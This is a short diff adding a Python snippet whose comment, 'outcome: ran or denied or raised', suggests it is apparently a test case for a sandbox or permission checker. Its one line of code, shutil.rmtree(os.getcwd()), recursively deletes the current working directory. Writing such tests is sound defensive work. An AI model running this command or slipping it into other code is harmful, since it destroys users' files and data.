@@ -1,0 +1,3 @@
+# outcome: ran or denied or raised
+import os, shutil
+shutil.rmtree(os.getcwd())
